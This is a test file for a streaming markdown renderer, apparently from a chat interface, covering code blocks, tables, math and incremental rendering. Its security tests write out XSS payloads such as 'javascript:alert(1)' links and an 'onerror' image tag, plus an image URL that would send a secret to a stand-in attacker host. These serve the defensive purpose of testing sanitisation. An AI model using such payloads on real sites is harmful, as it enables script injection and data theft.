// @vitest-environment jsdom
import { beforeAll, expect, test } from "vitest";

import { loadHighlighter } from "../src/services/markdown/highlight";
import { MarkdownStream, renderWhole } from "../src/services/markdown/stream";

beforeAll(() => loadHighlighter());

function html(text: string): string {
  return renderWhole(text)
    .map((each) => each.html)
    .join("");
}

function dom(text: string): HTMLElement {
  const element = document.createElement("div");
  element.innerHTML = html(text);
  return element;
}

test("code has its language, a button and colours", () => {
  const found = dom("```python\ndef f(): return 1\n```");
  expect(found.querySelector(".code-lang")?.textContent).toBe("python");
  expect(found.querySelector("button")?.getAttribute("data-action")).toBe("copy-code");
  expect(found.querySelector("code")?.textContent).toBe("def f(): return 1");
  expect(found.querySelector(".hljs-keyword")?.textContent).toBe("def");
});

test("tables keep their alignment, and scroll in a box of their own", () => {
  const found = dom("| a | b |\n|:-:|--:|\n| 1 | 2 |");
  expect(found.querySelector(".table-scroll table")).not.toBeNull();
  expect([...found.querySelectorAll("td")].map((each) => each.className)).toEqual(["md-align-center", "md-align-right"]);
});

test.each([
  ["$x^2$", "x^2", false],
  ["\\(a + b\\)", "a + b", false],
  ["$$\n\\frac{1}{2}\n$$", "\\frac{1}{2}", true],
  ["\\[\nx\n\\]", "x", true],
  ["text \\[x_1\\] text", "x_1", true],
  ["inline $$y$$ here", "y", false],
])("formulas: %s", (text, tex, isDisplay) => {
  const found = dom(text).querySelector<HTMLElement>(".math");
  expect(found?.dataset["math"]).toBe(tex);
  expect(found?.classList.contains("math-display")).toBe(isDisplay);
});

test.each(["It costs $5 and then $6.", "a $ b $ c", "`$x$`", "\\$x\\$", "$$$$", "US$100 or US$200"])(
  "no formula: %s",
  (text) => expect(dom(text).querySelector(".math")).toBeNull(),
);

test("foreign images are links: loading them would report that the answer was read", () => {
  const found = dom("![a cat](https://evil.example/?q=secret)");
  expect(found.querySelector("img")).toBeNull();
  expect(found.querySelector("a")?.textContent).toBe("a cat");
  expect(dom("![x](data:image/png;base64,iVBORw0KGgo=)").querySelector("img")).not.toBeNull();
  expect(dom("![x](data:image/svg+xml;base64,PHN2Zz4=)").querySelector("img")).toBeNull();
});

test("links open elsewhere and say nothing of where they come from", () => {
  const link = dom("[x](https://example.com)").querySelector("a");
  expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  expect(link?.getAttribute("target")).toBe("_blank");
});

test.each([
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "&#106;avascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:x",
  "//evil.example",
  "#/settings",
  "/api/delete",
])("no link to %s", (target) => {
  const found = dom(`[x](${target})`).querySelector("a");
  expect(found?.getAttribute("href") ?? null).toBeNull();
});

test("HTML is shown as text, but for plain marks", () => {
  const found = dom('<img src=x onerror=alert(1)> H<sub>2</sub>O <b onclick="x()">b</b> <script>alert(1)</script>');
  expect(found.querySelector("img, script, b")).toBeNull();
  expect(found.querySelector("sub")?.textContent).toBe("2");
  expect(found.textContent).toContain("<img src=x onerror=alert(1)>");
});

test("nothing dresses up as a part of the page", () => {
  const found = dom('```x" data-action="copy-code\ncode\n```\n\n<button data-action="copy-code" class="button">Delete</button>');
  expect(found.querySelectorAll("button").length).toBe(1);
  for (const each of found.querySelectorAll("*")) {
    expect([...each.attributes].map((attribute) => attribute.name).filter((name) => /^on|^style$|^id$|^name$/.test(name))).toEqual([]);
  }
});

test("thousands of marks end no parser", () => {
  for (const text of [">".repeat(5000), "[".repeat(5000), "- ".repeat(3000), "*".repeat(5000), "((((".repeat(2000)]) {
    expect(dom(text).textContent?.length).toBeGreaterThan(0);
  }
});

const SAMPLE = `# Title

A paragraph with **bold**, \`code\` and $x^2$.

- one
- two

  still two
- [ ] task

1. first
2. second

\`\`\`python
def f():

    return 1
\`\`\`

| a | b |
|---|---|
| 1 | 2 |

> quote
> more

$$
\\sum_i i
$$

Last line`;

test.each([1, 7, 40])("a text in pieces of %d looks as the whole does", (size) => {
  const stream = new MarkdownStream();
  let blocks = stream.update("");
  for (let end = size; end < SAMPLE.length + size; end += size) blocks = stream.update(SAMPLE.slice(0, end));
  expect(blocks.map((each) => each.html).join("")).toBe(html(SAMPLE));
});

test("blocks that are complete are not rendered again", () => {
  const stream = new MarkdownStream();
  const text = Array.from({ length: 50 }, (_, index) => `Paragraph ${index}.`).join("\n\n");
  const before = stream.update(text);
  const after = stream.update(`${text} More.`);
  expect(after.length).toBe(before.length);
  expect(after.slice(0, -1).every((each, index) => each === before[index])).toBe(true);
  expect(after.at(-1)).not.toBe(before.at(-1));
});

test("a text that is replaced is rendered again", () => {
  const stream = new MarkdownStream();
  stream.update("one\n\ntwo\n\nthree");
  expect(stream.update("other").map((each) => each.html)).toEqual(renderWhole("other").map((each) => each.html));
});

test.each([5, 40])("a text that came in pieces of %d looks as the whole does when it is complete", (size) => {
  for (const text of [SAMPLE, `${SAMPLE}\n\n[ref]: https://example.com/ "there"\n`, `See [ref].\n\n${SAMPLE}\n\n[ref]: https://x.example/\n`]) {
    const stream = new MarkdownStream();
    for (let end = size; end < text.length + size; end += size) stream.update(text.slice(0, end));
    expect(stream.whole(text).map((each) => each.html).join("")).toBe(html(text));
  }
});
